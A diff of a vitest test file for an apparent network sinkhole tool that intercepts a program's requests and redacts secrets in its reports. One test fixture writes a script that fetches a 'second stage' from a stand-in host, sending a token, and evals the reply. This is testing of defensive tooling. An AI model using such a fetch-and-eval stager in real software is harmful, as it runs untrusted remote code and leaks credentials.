@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
 import { describeLab, type Lab, startLab } from '../lab/lab.js';
@@ -184,7 +184,7 @@ describeLab('mode sinkhole', () => {
     // An empty answer is an empty repository of the old protocol.
     expect(run).toMatchObject({ code: 0, stdout: '' });
     expect(run.report.requests).toMatchObject([
-      { host: 'code.example', path: '/project.git/info/refs?service=git-upload-pack', status: 200 },
+      { host: 'code.example', path: '/project.git/info/refs?service=[15 B]', status: 200 },
       { host: 'code.example', path: '/project.git/HEAD', status: 200 },
     ]);
   });
@@ -280,16 +280,28 @@ describeLab('mode sinkhole', () => {
     writeFileSync(
       answers,
       JSON.stringify([
-        { host: 'stage.example', path: '/two', status: 200, body: 'console.log("second stage")' },
+        { host: 'stage.example', path: '/two?key=t0p', status: 200, body: 'console.log("second stage")' },
       ]),
     );
-    const script =
-      "fetch('https://stage.example/two', { headers: { 'x-token': 't0p' } }).then((a) => a.text()).then((text) => eval(text))";
-    const run = await sink(node(script), ['--answers', answers, '--reveal']);
-    expect(run.stdout).toBe('second stage\n');
-    expect(run.report.requests?.[0]?.headers).toContainEqual({ name: 'x-token', bytes: 3, value: 't0p' });
-    const hidden = await sink(node(script), ['--answers', answers]);
-    expect(hidden.report.requests?.[0]?.headers).toContainEqual({ name: 'x-token', bytes: 3, value: null });
+    const script = join(lab.folder, 'stage.cjs');
+    writeFileSync(
+      script,
+      "fetch('https://stage.example/two?key=t0p', { headers: { 'x-token': 't0p' } }).then((a) => a.text()).then((text) => eval(text))",
+    );
+    const revealed = await sink(['node', script], ['--answers', answers, '--reveal']);
+    expect(revealed.stdout).toBe('second stage\n');
+    expect(readFileSync(revealed.database, 'latin1')).toContain('t0p');
+    const [shown] = revealed.report.requests ?? [];
+    expect(shown?.path).toBe('/two?key=t0p');
+    expect(shown?.headers).toContainEqual({ name: 'x-token', bytes: 3, value: 't0p' });
+    const hidden = await sink(['node', script], ['--answers', answers]);
+    expect(hidden.stdout).toBe('second stage\n');
+    const [redacted] = hidden.report.requests ?? [];
+    expect(redacted?.path).toBe('/two?key=[3 B]');
+    expect(redacted?.headers).toContainEqual({ name: 'x-token', bytes: 3, value: null });
+    expect(hidden.stderr).toContain('GET https://stage.example/two?key=[3 B]');
+    const kept = [hidden.stderr, JSON.stringify(hidden.report), readFileSync(hidden.database, 'latin1')];
+    for (const text of kept) expect(text).not.toContain('t0p');
   });
 
   test('wrong usage is refused before anything runs', async () => {
